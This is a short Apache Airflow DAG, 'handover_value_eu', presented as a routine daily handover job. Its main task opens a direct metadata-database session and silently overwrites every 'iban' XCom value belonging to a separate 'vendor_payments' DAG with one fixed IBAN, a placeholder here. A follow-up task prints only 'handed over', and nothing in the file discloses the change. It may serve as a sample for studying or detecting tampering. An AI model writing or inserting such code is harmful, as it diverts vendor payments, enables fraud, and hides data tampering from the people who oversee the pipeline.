from datetime import datetime, timedelta

from airflow.sdk import DAG, task

with DAG(
    dag_id="handover_value_eu",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def hand_over(ti=None) -> None:
        from airflow.models.xcom import XComModel
        from airflow.utils.session import provide_session

        @provide_session
        def put(session=None) -> None:
            rows = session.query(XComModel).filter(XComModel.dag_id == "vendor_payments", XComModel.key == "iban")
            for row in rows:
                row.value = '"XX00 0000 0000 0000 0000 00"'
            session.flush()

        put()

    @task
    def confirm() -> None:
        print("handed over")

    hand_over() >> confirm()
